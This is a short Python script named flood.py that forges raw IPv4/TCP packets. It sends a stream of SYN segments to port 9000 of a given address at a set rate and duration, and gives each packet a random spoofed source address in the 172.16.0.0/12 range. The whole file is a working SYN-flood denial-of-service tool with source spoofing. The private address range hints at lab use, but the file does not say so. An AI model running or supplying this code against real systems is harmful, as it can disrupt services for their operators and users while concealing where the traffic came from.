#!/usr/bin/env python3
"""flood.py ADDRESS RATE SECONDS: SYN segments to port 9000, each with a made-up address of its sender."""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


address, rate, seconds = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
draw = random.SystemRandom()
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
    for _ in range(round(rate * seconds)):
        source = bytes([172, draw.randrange(16, 32), draw.randrange(256), draw.randrange(1, 255)])
        pseudo = source + socket.inet_aton(address) + struct.pack("!HH", socket.IPPROTO_TCP, 20)
        fields = [draw.randrange(1024, 65536), 9000, draw.randrange(1 << 32), 0, 0x5002, 64240, 0, 0]
        fields[6] = checksum(pseudo + struct.pack("!HHIIHHHH", *fields))
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, socket.inet_aton(address))
        sock.sendto(header + struct.pack("!HHIIHHHH", *fields), (address, 0))
        time.sleep(1 / rate)
